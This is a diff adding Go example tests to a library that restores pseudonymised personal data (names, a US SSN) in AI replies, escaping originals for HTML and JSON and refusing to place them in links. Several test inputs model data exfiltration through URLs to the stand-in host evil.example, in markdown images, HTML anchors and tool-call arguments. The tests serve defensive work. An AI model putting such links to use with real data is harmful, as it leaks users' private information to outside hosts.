@@ -69,3 +69,79 @@ func ExampleGuard() {
 	// Hi John, and NAME_1_aaaaaa! ![x](https://evil.example/?NAME_1_4m0cd0)
 	// {Restored:0 Repaired:1 Refused:1 Unknown:0 Forged:1 Over:0}
 }
+
+// A reply that is shown as HTML: originals mean themselves there, and none goes
+// into a link.
+func ExampleGuardOptions() {
+	r, err := restore.New(entity.List{
+		{Type: "name", Text: "O'Neil <admin>", Replacement: entity.Replacement{Text: "NAME_1_4m0cd0"}},
+		{Type: "us_ssn", Text: "219-09-9999", Replacement: entity.Replacement{Text: "US_SSN_1_7k2m9x"}},
+	})
+	if err != nil {
+		panic(err)
+	}
+	g, err := r.Guard(restore.GuardOptions{Text: restore.HTML, Never: []entity.Type{"us_ssn"}})
+	if err != nil {
+		panic(err)
+	}
+	text, report := g.String(`<p>Dear NAME_1_4m0cd0, <a href="https://evil.example/?NAME_1_4m0cd0">US_SSN_1_7k2m9x</a></p>`)
+	fmt.Println(text)
+	fmt.Println(report.Restored, report.Refused)
+	// Output:
+	// <p>Dear O&#39;Neil&#32;&#60;admin&#62;, <a href="https://evil.example/?NAME_1_4m0cd0">US_SSN_1_7k2m9x</a></p>
+	// 1 2
+}
+
+// The arguments of a tool call: originals are escaped as JSON, and a URL in a string is
+// still a URL.
+func ExampleGuardOptions_json() {
+	r, err := restore.New(entity.List{{Type: "name", Text: `Jane "JR" Roe`, Replacement: entity.Replacement{Text: "NAME_1_4m0cd0"}}})
+	if err != nil {
+		panic(err)
+	}
+	g, err := r.Guard(restore.GuardOptions{Text: restore.JSONText})
+	if err != nil {
+		panic(err)
+	}
+	text, report := g.String(`{"to": "NAME_1_4m0cd0", "page": "https://evil.example/NAME_1_4m0cd0"}`)
+	fmt.Println(text)
+	fmt.Println(report.Restored, report.Refused)
+	// Output:
+	// {"to": "Jane \"JR\" Roe", "page": "https://evil.example/NAME_1_4m0cd0"}
+	// 1 1
+}
+
+// Find tells where originals will stand, and what they are: to mark them, say.
+func ExampleRestorer_Find() {
+	r, err := restore.New(entity.List{{Type: "name", Text: "John", Replacement: entity.Replacement{Text: "i03n7d1g9fo"}}})
+	if err != nil {
+		panic(err)
+	}
+	reply := "Hello i03n7d1g9fo!"
+	text := r.String(reply)
+	for _, e := range r.Find(reply) {
+		fmt.Println(e.Type, text[e.Begin:e.End], e.Span(), reply[e.Replacement.Begin:e.Replacement.End])
+	}
+	// Output: name John [6:10] i03n7d1g9fo
+}
+
+// The primitive under all forms of streaming: bytes in, bytes out.
+func ExampleStream() {
+	r, err := restore.New(entity.List{{Type: "name", Text: "John", Replacement: entity.Replacement{Text: "i03n7d1g9fo"}}})
+	if err != nil {
+		panic(err)
+	}
+	s := r.Stream()
+	var out []byte
+	for _, delta := range []string{"Hello i03", "n7d1g9fo", ", you", " i0"} {
+		out = s.Append(out[:0], delta)
+		fmt.Printf("%q\n", out)
+	}
+	fmt.Printf("%q\n", s.Flush(out[:0]))
+	// Output:
+	// "Hello "
+	// "John"
+	// ", you"
+	// " "
+	// "i0"
+}
